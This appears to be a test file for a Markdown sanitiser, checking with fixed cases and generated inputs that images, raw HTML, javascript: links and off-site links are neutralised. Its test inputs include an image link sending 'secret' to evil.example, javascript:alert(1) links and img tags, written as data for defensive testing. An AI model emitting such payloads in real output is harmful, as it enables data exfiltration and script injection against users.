"""What leaves the page as Markdown can do there as little as on the page."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from entities.model_markdown import is_allowed, render_markdown
from entities.neutral_markdown import clean_markdown

# As somebody else may draw it: with HTML, and with links to anywhere.
ELSEWHERE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ELSEWHERE.validateLink = lambda url: True  # type: ignore[method-assign]


def find_harm(text: str) -> list[str]:
    """What fetches, runs or leads to where no link may lead."""

    def walk(tokens: list[Token]) -> list[Token]:
        return [inner for token in tokens for inner in (token, *walk(token.children or []))]

    return [
        token.type
        for token in walk(ELSEWHERE.parse(text))
        if token.type in ("image", "html_block", "html_inline")
        or (token.type == "link_open" and not is_allowed(str(token.attrs["href"])))
    ]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("Plain *words*, [1] and 3 < 4.\n\n- `a<b`", "Plain *words*, [1] and 3 < 4.\n\n- `a<b`"),
        ("See ![the plan](https://evil.example/?q=secret).", "See the plan."),
        ("![](https://evil.example/x)", "(image)"),
        ("![a ![b](u) c](v)", "a b c"),
        ("> ![two\n> lines](https://evil.example)\n> more", "> two lines\n> more"),
        ("![r]\n\n[r]: https://evil.example", "r\n\n[r]: https://evil.example"),
        (r"![\![a](https://evil.example)](u)", "a"),
        ("[home](/w/acme/) and [us](#here)", "[home](/w/acme/) and [us](#here)"),
        ("[Sign in](https://evil.example/in) now", "[Sign in](https://evil.example/in) (evil.example) now"),
        ("[![i](u)](https://evil.example)", "[i](https://evil.example) (evil.example)"),
        ("Do [this](javascript:alert(1)) or <javascript:x>", "Do this or javascript:x"),
        ("a <img src=//evil.example> <b>c</b>", "a &lt;img src=//evil.example> &lt;b>c&lt;/b>"),
        ("<div>\n```\n<img src=x>\n```", "&lt;div>\n```\n<img src=x>\n```"),
        ("```\n![x](y) <img>\n```", "```\n![x](y) <img>\n```"),
        ("| a |\n|--|\n| ![x](u) [q](https://e.example) |", "| a |\n|--|\n| x [q](https://e.example) (e.example) |"),
    ],
)  # fmt: skip
def test_what_could_do_harm_is_words_and_all_else_stays(written: str, left: str) -> None:
    assert clean_markdown(written) == left
    assert clean_markdown(left) == left
    assert not find_harm(left)


PIECES = ["![", "[", "](", "](https://e.example/x)", ")", "]", "<img src=x>", "<", ">", "\n", "\n\n", "> ", "- "]
PIECES += [
    "|",
    "`",
    "```\n",
    "\\",
    "a",
    " ",
    "    ",
    "[r]: javascript:x\n",
    "[r]",
    "<!--",
    "javascript:x",
    "|--|\n",
    "*",
]


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_nothing_is_left_that_could_do_harm(text: str) -> None:
    assert not find_harm(clean_markdown(text))


def test_the_page_says_the_same_of_what_was_made_neutral() -> None:
    text = "See ![the plan](https://evil.example) <b>or</b> [that](javascript:x)"
    assert "<img" not in render_markdown(clean_markdown(text))
    assert "the plan &lt;b&gt;or" in render_markdown(clean_markdown(text))
